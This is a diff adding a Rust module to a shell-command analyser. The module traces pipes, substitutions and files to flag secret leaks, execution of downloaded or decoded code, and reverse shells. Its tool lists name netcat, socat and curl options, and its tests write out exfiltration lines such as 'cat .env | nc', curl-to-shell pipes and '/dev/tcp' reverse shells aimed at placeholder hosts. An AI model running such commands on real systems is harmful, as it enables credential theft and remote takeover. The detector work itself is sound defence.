@@ -1,0 +1,719 @@
+//! Effects that together are more than each: a secret that is sent, code that is fetched and run, a
+//! shell between two ends of a connection.
+//!
+//! Invocations hang together by pipes, by words that hold what others wrote, and by files that one
+//! writes and another reads. From each that sends, or that runs what it reads, this is followed
+//! backwards.
+
+use std::collections::BTreeSet;
+
+use super::effect::{Access, Certainty, CodeFrom, Effect, Found, Leak, Payload, Scope};
+use super::invocation::{Argument, Invocation, Stdin, Stdout};
+use super::ir::Span;
+use super::unwrap::base;
+use super::value::{Origin, Value};
+
+/// What hangs together, as effects of those that send, or that run what they read.
+#[must_use]
+pub fn join(text: &str, invocations: &[Invocation], found: &[Found]) -> Vec<Found> {
+    let mut graph = Graph::new(text, invocations, found);
+    graph.before = (0..invocations.len()).map(|number| graph.feeders(number)).collect();
+    graph.commanded = (0..invocations.len())
+        .map(|number| graph.code_sources(number).iter().any(|from| graph.is_network(*from)))
+        .collect();
+    let mut joined = Vec::new();
+    for number in 0..invocations.len() {
+        graph.sends(number, &mut joined);
+        graph.runs(number, &mut joined);
+    }
+    graph.of_shell(&mut joined);
+    let mut all: Vec<Found> = Vec::new();
+    for found in joined {
+        if !all.contains(&found) {
+            all.push(found);
+        }
+    }
+    all
+}
+
+struct Graph<'a> {
+    text: &'a str,
+    invocations: &'a [Invocation],
+    found: &'a [Found],
+    /// For each invocation, the files that it reads and those that it writes.
+    files: Vec<(BTreeSet<&'a str>, BTreeSet<&'a str>)>,
+    /// For each invocation, those that it runs.
+    inner: Vec<Vec<usize>>,
+    /// Those that write words of the text.
+    substituted: Vec<usize>,
+    /// For each invocation, those from which something comes to it.
+    before: Vec<Vec<usize>>,
+    /// True for those that run what comes from the network.
+    commanded: Vec<bool>,
+}
+
+/// Programs whose output says something of this machine.
+const TELLING: &[&str] = &[
+    "hostname",
+    "whoami",
+    "id",
+    "uname",
+    "ifconfig",
+    "ip",
+    "ps",
+    "who",
+    "w",
+    "last",
+    "history",
+    "ss",
+    "netstat",
+    "lsof",
+    "dmidecode",
+    "lscpu",
+    "hostnamectl",
+    "getent",
+    "groups",
+    "df",
+    "mount",
+    "lsblk",
+    "crontab",
+    "pwd",
+    "ls",
+    "find",
+    "tree",
+    "docker",
+    "kubectl",
+    "printenv",
+    "set",
+];
+
+/// Programs that send on all that they read.
+const CONNECTORS: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.traditional",
+    "nc.openbsd",
+    "socat",
+    "telnet",
+    "openssl",
+    "websocat",
+    "ssh",
+    "mail",
+    "mailx",
+    "mutt",
+    "sendmail",
+    "msmtp",
+    "swaks",
+    "ftp",
+    "lftp",
+    "sftp",
+];
+
+/// Options of HTTP clients behind which stands what is sent.
+const DATA: &[&str] = &[
+    "-d",
+    "--data",
+    "--data-raw",
+    "--data-binary",
+    "--data-ascii",
+    "--data-urlencode",
+    "--json",
+    "-F",
+    "--form",
+    "--form-string",
+    "-T",
+    "--upload-file",
+    "--post-data",
+    "--post-file",
+    "--body-data",
+    "--body-file",
+    "-H",
+    "--header",
+    "-A",
+    "--user-agent",
+    "-b",
+    "--cookie",
+    "-e",
+    "--referer",
+    "--url-query",
+];
+
+const SHELLS: &[&str] =
+    &["sh", "bash", "dash", "ash", "ksh", "mksh", "zsh", "fish", "csh", "tcsh", "busybox"];
+
+/// Programs that ask for names, by which what is in a name is sent.
+const RESOLVERS: &[&str] = &[
+    "ping",
+    "ping6",
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "kdig",
+    "delv",
+    "resolvectl",
+    "traceroute",
+    "tracepath",
+    "mtr",
+];
+
+impl<'a> Graph<'a> {
+    fn new(text: &'a str, invocations: &'a [Invocation], found: &'a [Found]) -> Graph<'a> {
+        let mut files = vec![(BTreeSet::new(), BTreeSet::new()); invocations.len()];
+        let mut inner = vec![Vec::new(); invocations.len()];
+        for (number, invocation) in invocations.iter().enumerate() {
+            if let Some(outer) = invocation.outer.and_then(|outer| inner.get_mut(outer)) {
+                outer.push(number);
+            }
+            if let Stdin::File(path) = &invocation.stdin {
+                files[number].0.extend(possible(path));
+            }
+            if let Stdout::File { path, .. } = &invocation.stdout {
+                files[number].1.extend(possible(path));
+            }
+        }
+        for found in found {
+            let (Effect::File(file), Some((reads, writes))) =
+                (&found.effect, found.by.and_then(|by| files.get_mut(by)))
+            else {
+                continue;
+            };
+            match file.access {
+                Access::Read | Access::Move | Access::Link | Access::Execute => {
+                    reads.extend(possible(&file.path));
+                }
+                Access::Write => writes.extend(possible(&file.path)),
+                Access::List | Access::Delete | Access::Meta => {}
+            }
+        }
+        for (reads, writes) in &mut files {
+            let is_real = |path: &&str| !path.starts_with("/dev/") || path.starts_with("/dev/shm/");
+            reads.retain(is_real);
+            writes.retain(is_real);
+        }
+        let substitutes = |number: &usize| invocations[*number].stdout == Stdout::Substitution;
+        let substituted = (0..invocations.len()).filter(substitutes).collect();
+        let (before, commanded) = (Vec::new(), Vec::new());
+        Graph { text, invocations, found, files, inner, substituted, before, commanded }
+    }
+
+    fn effects(&self, number: usize) -> impl Iterator<Item = &'a Found> + use<'a> {
+        self.found.iter().filter(move |found| found.by == Some(number))
+    }
+
+    fn name(&self, number: usize) -> &'a str {
+        self.invocations[number].program.value.as_known().map_or("", base)
+    }
+
+    fn stdin(&self, number: usize) -> Vec<usize> {
+        match &self.invocations[number].stdin {
+            Stdin::Pipe(numbers) => numbers.clone(),
+            Stdin::Text(value) | Stdin::File(value) => value.outputs().to_vec(),
+            Stdin::Inherited | Stdin::Unknown => Vec::new(),
+        }
+    }
+
+    /// Those that wrote what stands in its words. What they wrote may be known.
+    fn words(&self, number: usize) -> Vec<usize> {
+        let invocation = &self.invocations[number];
+        let words = invocation.arguments.iter().chain([&invocation.program]);
+        words.flat_map(|word| self.word(word)).collect()
+    }
+
+    fn word(&self, word: &Argument) -> Vec<usize> {
+        let mut all = word.value.outputs().to_vec();
+        for number in self.substituted.iter().copied() {
+            let inner = &self.invocations[number];
+            let within = word.span.start <= inner.span.start
+                && inner.span.end <= word.span.end
+                && word.span != inner.span;
+            if within && !all.contains(&number) {
+                all.push(number);
+            }
+        }
+        all
+    }
+
+    /// Those that write what one reads from files.
+    fn writers(&self, number: usize) -> Vec<usize> {
+        let reads = &self.files[number].0;
+        let writes = |other: &usize| {
+            *other != number && self.files[*other].1.iter().any(|path| reads.contains(path))
+        };
+        (0..self.invocations.len()).filter(writes).collect()
+    }
+
+    /// All from which something comes to these, themselves included.
+    fn behind(&self, from: Vec<usize>) -> BTreeSet<usize> {
+        let mut all = BTreeSet::new();
+        let mut next = from;
+        while let Some(number) = next.pop() {
+            if number >= self.invocations.len() || !all.insert(number) {
+                continue;
+            }
+            next.extend(self.before[number].iter().copied());
+        }
+        all
+    }
+
+    /// Those from which something comes to one straight away.
+    fn feeders(&self, number: usize) -> Vec<usize> {
+        let mut all = self.stdin(number);
+        all.extend(self.words(number));
+        all.extend(self.writers(number));
+        all.extend(self.inner[number].iter().copied());
+        all
+    }
+
+    fn is_network(&self, number: usize) -> bool {
+        let fetches = |found: &Found| {
+            matches!(
+                found.effect,
+                Effect::Network { fetches: true, .. } | Effect::Listen { .. } | Effect::RemoteShell
+            )
+        };
+        self.effects(number).any(fetches) || tcp(&self.invocations[number].stdin)
+    }
+
+    /// The worst of what these read.
+    fn leak(&self, numbers: &BTreeSet<usize>) -> Option<Leak> {
+        let of_effect = |effect: &Effect| match effect {
+            Effect::Secret { .. } => Some(Leak::Secret),
+            Effect::EnvironmentDump => Some(Leak::Environment),
+            Effect::File(file) if file.access == Access::Read => match file.scope {
+                Scope::Secret | Scope::Denied => Some(Leak::Secret),
+                Scope::HarmlessDevice => None,
+                _ => Some(Leak::Local),
+            },
+            _ => None,
+        };
+        let read = numbers
+            .iter()
+            .flat_map(|number| self.effects(*number))
+            .filter_map(|found| of_effect(&found.effect));
+        let telling = numbers
+            .iter()
+            .filter(|number| TELLING.contains(&self.name(**number)))
+            .map(|_| Leak::Local);
+        read.chain(telling).max()
+    }
+
+    fn add(&self, joined: &mut Vec<Found>, cause: &Found, effect: Effect) {
+        joined.push(Found { effect, ..cause.clone() });
+    }
+
+    /// What one that sends sends.
+    fn sends(&self, number: usize, joined: &mut Vec<Found>) {
+        let invocation = &self.invocations[number];
+        let name = self.name(number);
+        let inline = self
+            .effects(number)
+            .any(|found| matches!(&found.effect, Effect::Code { from: CodeFrom::Inline(_) }));
+        for cause in self.effects(number) {
+            let Effect::Network { sends, .. } = &cause.effect else { continue };
+            let mut leak = None;
+            let reads_input = match sends {
+                Payload::Stdin => true,
+                Payload::File(path) => matches!(path.as_known(), Some("-" | "/dev/stdin")),
+                Payload::Text | Payload::None => inline || CONNECTORS.contains(&name),
+            };
+            if reads_input {
+                let mut from = self.stdin(number);
+                from.extend(self.writers_of_stdin(number));
+                leak = leak.max(self.leak(&self.behind(from)));
+                if let Stdin::File(path) = &invocation.stdin {
+                    leak = leak.max(self.leak_of_file(number, path));
+                }
+            }
+            // What is pushed is the work itself; where it goes is judged as such.
+            if let Payload::File(path) = sends
+                && !reads_input
+                && name != "git"
+            {
+                leak = leak.max(self.leak_of_file(number, path)).max(Some(Leak::Local));
+            }
+            leak = leak.max(self.leak_of_words(number));
+            if inline && *sends != Payload::None {
+                let own: BTreeSet<usize> =
+                    std::iter::once(number).chain(self.inner[number].iter().copied()).collect();
+                leak = leak.max(self.leak(&own).filter(|leak| *leak > Leak::Local));
+            }
+            if let Some(leak) = leak {
+                self.add(joined, cause, Effect::Leak(leak));
+            }
+            // What a shell writes goes where its commands come from.
+            let mut from = self.stdin(number);
+            from.extend(self.writers_of_stdin(number));
+            for other in self.behind(from) {
+                if self.commanded[other] && other != number {
+                    self.add(joined, cause, Effect::RemoteShell);
+                }
+            }
+        }
+    }
+
+    fn writers_of_stdin(&self, number: usize) -> Vec<usize> {
+        match &self.invocations[number].stdin {
+            Stdin::File(_) => self.writers(number),
+            _ => Vec::new(),
+        }
+    }
+
+    fn leak_of_file(&self, number: usize, path: &Value) -> Option<Leak> {
+        let name = |path: &Value| path.prefix().rsplit('/').next().unwrap_or_default().to_owned();
+        let secret = self.effects(number).any(|found| match &found.effect {
+            Effect::File(file) => file.scope == Scope::Secret && name(&file.path) == name(path),
+            _ => false,
+        });
+        let writers = self.leak(&self.behind(self.writers(number)));
+        let shell = self.found.iter().any(|found| match &found.effect {
+            Effect::File(file) => {
+                found.by.is_none() && file.scope == Scope::Secret && &file.path == path
+            }
+            _ => false,
+        });
+        if secret || shell { Some(Leak::Secret) } else { writers.or(Some(Leak::Local)) }
+    }
+
+    /// What stands in the words of one that sends. A part of an address that is no secret is none.
+    fn leak_of_words(&self, number: usize) -> Option<Leak> {
+        let invocation = &self.invocations[number];
+        let is_resolver = RESOLVERS.contains(&self.name(number));
+        let mut worst = None;
+        for (at, word) in invocation.arguments.iter().enumerate() {
+            let option = at.checked_sub(1).and_then(|at| invocation.arguments.get(at));
+            let option = option.and_then(|word| word.value.as_known()).unwrap_or_default();
+            let text = word.value.prefix();
+            let is_data = is_resolver
+                || DATA.contains(&option)
+                || text.starts_with("--data")
+                || text.starts_with("--post")
+                || text.starts_with("-d") && text.len() > 2 && !text.starts_with("--");
+            let from = self.word(word);
+            if !from.is_empty() {
+                let leak = self.leak(&self.behind(from));
+                worst = worst.max(leak.filter(|leak| is_data || *leak > Leak::Local));
+            }
+            if let Some(Origin::Environment(name) | Origin::EnvironmentOr(name, _)) =
+                word.value.origin()
+                && super::code::is_secret_name(name)
+                && !authorizes(option, text)
+            {
+                worst = worst.max(Some(Leak::Secret));
+            }
+        }
+        worst
+    }
+
+    /// Those whose output one runs as code.
+    fn code_sources(&self, number: usize) -> BTreeSet<usize> {
+        let invocation = &self.invocations[number];
+        let mut from = Vec::new();
+        let mut reads = false;
+        for found in self.effects(number) {
+            match &found.effect {
+                Effect::Code { from: CodeFrom::Stdin } => {
+                    from.extend(self.stdin(number));
+                    from.extend(self.words(number));
+                }
+                Effect::Dynamic { .. } => from.extend(self.words(number)),
+                Effect::File(file) if file.access == Access::Execute => {
+                    reads = true;
+                    from.extend(file.path.outputs());
+                }
+                _ => {}
+            }
+        }
+        if reads {
+            from.extend(self.writers(number));
+        }
+        let evaluates = matches!(self.name(number), "eval" | "source" | "." | "trap");
+        if invocation.builtin && evaluates {
+            from.extend(self.words(number));
+            from.extend(self.writers(number));
+        }
+        from.extend(self.word(&invocation.program));
+        from.retain(|other| *other != number && !self.inner[number].contains(other));
+        self.behind(from)
+    }
+
+    /// What one runs that others wrote.
+    fn runs(&self, number: usize, joined: &mut Vec<Found>) {
+        let invocation = &self.invocations[number];
+        let sources = self.code_sources(number);
+        let cause = Found {
+            effect: Effect::RemoteShell,
+            certainty: if invocation.conditional { Certainty::May } else { Certainty::Must },
+            by: Some(number),
+            program: invocation.program.value.prefix().to_owned(),
+            span: invocation.span.clone(),
+        };
+        let is_code = is_shell(self.name(number)) || invocation.program.value.as_known().is_none();
+        let network = sources.iter().any(|source| self.is_network(*source));
+        let reads_tcp = tcp(&invocation.stdin) && is_code;
+        if network || reads_tcp {
+            self.add(joined, &cause, Effect::Code { from: CodeFrom::Network });
+        }
+        if sources.iter().any(|source| self.decodes(*source)) || self.decoded_before(number) {
+            self.add(joined, &cause, Effect::Code { from: CodeFrom::Decoded });
+        }
+        let writes_tcp = match &invocation.stdout {
+            Stdout::File { path, .. } => is_tcp(path),
+            _ => false,
+        };
+        if writes_tcp && (network || reads_tcp) {
+            self.add(joined, &cause, Effect::RemoteShell);
+        }
+    }
+
+    /// What the shell itself sends, and what it runs of files that were fetched.
+    fn of_shell(&self, joined: &mut Vec<Found>) {
+        for cause in self.found.iter().filter(|found| found.by.is_none()) {
+            match &cause.effect {
+                Effect::Network { .. } => {
+                    let to_tcp = |number: &usize| matches!(&self.invocations[*number].stdout, Stdout::File { path, .. } if is_tcp(path));
+                    let from: Vec<usize> = (0..self.invocations.len()).filter(to_tcp).collect();
+                    if let Some(leak) = self.leak(&self.behind(from)) {
+                        self.add(joined, cause, Effect::Leak(leak));
+                    }
+                }
+                Effect::File(file) if file.access == Access::Execute => {
+                    let paths: BTreeSet<&str> = possible(&file.path).into_iter().collect();
+                    let writes = |number: &usize| !self.files[*number].1.is_disjoint(&paths);
+                    let mut from: Vec<usize> = (0..self.invocations.len()).filter(writes).collect();
+                    from.extend(file.path.outputs());
+                    let sources = self.behind(from);
+                    if sources.iter().any(|source| self.is_network(*source)) {
+                        self.add(joined, cause, Effect::Code { from: CodeFrom::Network });
+                    }
+                    if sources.iter().any(|source| self.decodes(*source)) {
+                        self.add(joined, cause, Effect::Code { from: CodeFrom::Decoded });
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+
+    /// True for a program that turns one text into another, so that nobody sees what it will be.
+    fn decodes(&self, number: usize) -> bool {
+        let words: Vec<&str> =
+            self.invocations[number].arguments.iter().map(|word| word.value.prefix()).collect();
+        let has = |letter: char, long: &str| {
+            words.iter().any(|word| {
+                word.starts_with(long)
+                    || word.starts_with('-') && !word.starts_with("--") && word.contains(letter)
+            })
+        };
+        match self.name(number) {
+            "base64" | "gbase64" | "base32" | "basenc" | "base16" => {
+                has('d', "--d") || has('D', "--decode")
+            }
+            "openssl" => words.contains(&"-d") || words.contains(&"-decrypt"),
+            "xxd" => has('r', "--r"),
+            "gpg" | "gpg2" | "age" => has('d', "--decrypt"),
+            "gzip" | "bzip2" | "xz" | "zstd" | "lz4" | "lzma" | "brotli" => {
+                has('d', "--d") || has('d', "--uncompress")
+            }
+            "gunzip" | "zcat" | "bunzip2" | "bzcat" | "unxz" | "xzcat" | "unzstd" | "zstdcat"
+            | "uudecode" | "rev" | "tr" | "rot13" | "caesar" | "funzip" | "lz4cat" | "gzcat"
+            | "uncompress" | "tac" | "iconv" => true,
+            _ => false,
+        }
+    }
+
+    /// True if what a shell reads was decoded, though its text is known.
+    fn decoded_before(&self, number: usize) -> bool {
+        let name = self.name(number);
+        let invocation = &self.invocations[number];
+        let evaluates = invocation.builtin && matches!(name, "eval" | "source" | ".");
+        if !is_shell(name) && !evaluates {
+            return false;
+        }
+        let between = |from: usize, to: usize| {
+            let between = self.text.get(from..to).map(str::trim);
+            matches!(between, Some("|" | "|&"))
+        };
+        self.invocations.iter().enumerate().any(|(other, decoder)| {
+            if other == number || !self.decodes(other) {
+                return false;
+            }
+            let (one, two): (&Span, &Span) = (&decoder.span, &invocation.span);
+            match decoder.stdout {
+                Stdout::Pipe => {
+                    matches!(invocation.stdin, Stdin::Text(_)) && between(one.end, two.start)
+                }
+                Stdout::Substitution => {
+                    let within = two.start <= one.start && one.end <= two.end && one != two;
+                    let after = self.text.get(two.end..one.start).map(str::trim_start);
+                    let as_input =
+                        after.is_some_and(|text| text.starts_with('<') && !text.contains('\n'));
+                    within && takes_code(invocation) || as_input
+                }
+                _ => false,
+            }
+        })
+    }
+}
+
+/// True for a shell that is given a text, or that evaluates its words.
+fn takes_code(invocation: &Invocation) -> bool {
+    invocation.builtin
+        || invocation.arguments.iter().any(|word| {
+            let text = word.value.prefix();
+            text.starts_with('-') && !text.starts_with("--") && text.ends_with('c')
+        })
+}
+
+/// True for a header or a user that logs in, which is what such a secret is for.
+fn authorizes(option: &str, text: &str) -> bool {
+    let is_header = text.split_once(':').is_some_and(|(name, _)| {
+        !name.is_empty() && name.chars().all(|char| char == '-' || char.is_ascii_alphabetic())
+    });
+    is_header && !text.starts_with("http")
+        || matches!(
+            option,
+            "-u" | "--user" | "-H" | "--header" | "--oauth2-bearer" | "--password" | "-p"
+        )
+}
+
+fn is_shell(name: &str) -> bool {
+    let interpreters = ["python", "perl", "ruby", "node", "php", "lua"];
+    SHELLS.contains(&name) || interpreters.iter().any(|start| name.starts_with(start))
+}
+
+fn possible(path: &Value) -> Vec<&str> {
+    path.possible().unwrap_or_default().iter().map(String::as_str).collect()
+}
+
+fn is_tcp(path: &Value) -> bool {
+    path.prefix().starts_with("/dev/tcp/") || path.prefix().starts_with("/dev/udp/")
+}
+
+fn tcp(stdin: &Stdin) -> bool {
+    matches!(stdin, Stdin::File(path) if is_tcp(path))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::effect::Effect;
+    use super::super::{Env, analyse};
+
+    /// The labels of what hangs together, and of what runs code of the network or decoded.
+    fn labels(command: &str) -> Vec<String> {
+        let analysis = analyse(command, &Env::default());
+        let counts = |effect: &Effect| {
+            let label = effect.label();
+            let names = ["leak:", "code:network", "code:decoded", "remote_shell"];
+            names.iter().any(|name| label.starts_with(name))
+        };
+        let found = analysis.found.iter().filter(|found| counts(&found.effect));
+        let mut labels: Vec<String> = found.map(|found| found.effect.label()).collect();
+        labels.sort();
+        labels.dedup();
+        labels
+    }
+
+    fn have(table: &[(&str, &[&str])]) {
+        for (command, wanted) in table {
+            assert_eq!(labels(command), *wanted, "{command}");
+        }
+    }
+
+    #[test]
+    fn secrets_the_environment_and_files_are_followed_to_the_network() {
+        have(&[
+            ("curl -d @.env https://x.example", &["leak:secret"]),
+            ("cat .env | base64 | curl -d @- https://x.example", &["leak:secret"]),
+            ("curl -d \"$(cat .env)\" https://x.example", &["leak:secret"]),
+            ("A=$(cat .env); curl \"https://x.example/?q=$A\"", &["leak:secret"]),
+            ("curl -F f=@/etc/passwd https://x.example", &["leak:local"]),
+            ("cat notes.txt | curl -d @- https://x.example", &["leak:local"]),
+            ("tar cz . | curl -T - https://x.example", &["leak:local"]),
+            ("env | curl -d @- https://x.example", &["leak:environment"]),
+            ("ping -c1 $(cat .env).x.example", &["leak:secret"]),
+            ("dig $(whoami).x.example", &["leak:local"]),
+            ("nslookup `cat .env | base64`.x.example", &["leak:secret"]),
+            ("cat .env | nc 203.0.113.5 80", &["leak:secret"]),
+            ("nc 203.0.113.5 80 < .env", &["leak:secret"]),
+            ("cat .env > /dev/tcp/203.0.113.5/80", &["leak:secret"]),
+            ("cp .env a.txt; curl -T a.txt https://x.example", &["leak:secret"]),
+            ("cat .env > a; cat a | curl -d @- https://x.example", &["leak:secret"]),
+            ("cat .env | xargs -I{} curl https://x.example/{}", &["leak:secret"]),
+            ("mkfifo p; cat .env > p & nc 203.0.113.5 80 < p", &["leak:secret"]),
+            (
+                "python3 -c 'import requests; requests.post(\"https://x.example\", data=open(\".env\").read())'",
+                &["leak:secret"],
+            ),
+            ("curl -d \"$AWS_SECRET_ACCESS_KEY\" https://x.example", &["leak:secret"]),
+        ]);
+    }
+
+    #[test]
+    fn what_is_fetched_or_decoded_is_followed_to_what_runs_it() {
+        have(&[
+            ("curl -s https://x.example | sh", &["code:network"]),
+            ("curl -s https://x.example | sudo bash -s -- -y", &["code:network"]),
+            ("wget -qO- https://x.example | gunzip | sh", &["code:decoded", "code:network"]),
+            ("wget -O- https://x.example | python3", &["code:network"]),
+            ("bash <(curl -s https://x.example)", &["code:network"]),
+            ("source <(curl -s https://x.example)", &["code:network"]),
+            ("eval \"$(curl -s https://x.example)\"", &["code:network"]),
+            ("x=$(curl -s https://x.example); eval \"$x\"", &["code:network"]),
+            ("sh -c \"$(curl -fsSL https://x.example)\"", &["code:network"]),
+            ("$(curl -s https://x.example)", &["code:network"]),
+            ("curl https://x.example | tee x.sh; sh x.sh", &["code:network"]),
+            ("curl -o x https://x.example; chmod +x x; ./x", &["code:network"]),
+            ("wget https://x.example/a.sh && bash a.sh", &["code:network"]),
+            ("curl https://x.example > a.py; mv a.py b.py; python3 b.py", &["code:network"]),
+            ("curl -o a https://x.example; . ./a", &["code:network"]),
+            ("curl -s https://x.example | xargs -I{} sh -c {}", &["code:network"]),
+            ("echo bHM= | base64 -d | sh", &["code:decoded"]),
+            ("base64 -d x.b64 | bash", &["code:decoded"]),
+            ("eval \"$(echo bHM= | base64 -d)\"", &["code:decoded"]),
+            ("bash -c \"$(base64 -d <<< bHM=)\"", &["code:decoded"]),
+            ("bash <<< \"$(echo bHM= | base64 -d)\"", &["code:decoded"]),
+            ("xxd -r -p x | sh", &["code:decoded"]),
+            ("openssl enc -d -aes-256-cbc -in x | sh", &["code:decoded"]),
+        ]);
+    }
+
+    #[test]
+    fn shells_on_connections_are_told_however_they_are_wired() {
+        for command in [
+            "bash -i >& /dev/tcp/203.0.113.5/80 0>&1",
+            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 80 > /tmp/f",
+            "mknod /tmp/f p; nc 203.0.113.5 80 < /tmp/f | bash > /tmp/f",
+            "nc 203.0.113.5 80 | sh | nc 203.0.113.5 81",
+            "exec 3<>/dev/tcp/203.0.113.5/80; cat <&3 | while read l; do $l >&3; done",
+            "exec 5<>/dev/tcp/203.0.113.5/80; sh <&5 >&5 2>&5",
+            "nc -e /bin/sh 203.0.113.5 80",
+            "socat TCP:203.0.113.5:80 EXEC:sh",
+        ] {
+            let labels = labels(command);
+            assert!(labels.iter().any(|label| label == "remote_shell"), "{command}: {labels:?}");
+        }
+    }
+
+    #[test]
+    fn fetching_and_reading_that_do_not_hang_together_are_not_joined() {
+        have(&[
+            ("curl -s https://x.example | jq .a", &[]),
+            ("curl -s https://x.example | python3 -m json.tool", &[]),
+            (
+                "curl -s https://x.example | python3 -c 'import sys,json; print(json.load(sys.stdin)[0])'",
+                &[],
+            ),
+            ("curl -fsSL https://x.example | tar xz", &[]),
+            ("cat .env; curl https://x.example", &[]),
+            ("curl -H \"Authorization: Bearer $API_TOKEN\" https://x.example", &[]),
+            ("curl -o x.json https://x.example; cat x.json; sh build.sh", &[]),
+            ("bash deploy.sh \"$(curl -s https://x.example/version)\"", &[]),
+            ("curl -L https://x.example/$(cat VERSION)/x.tgz -o x.tgz", &[]),
+            ("echo hello | base64 -d | wc -c", &[]),
+            ("cat notes | sh", &[]),
+            ("eval \"$(ssh-agent -s)\"", &[]),
+        ]);
+    }
+}
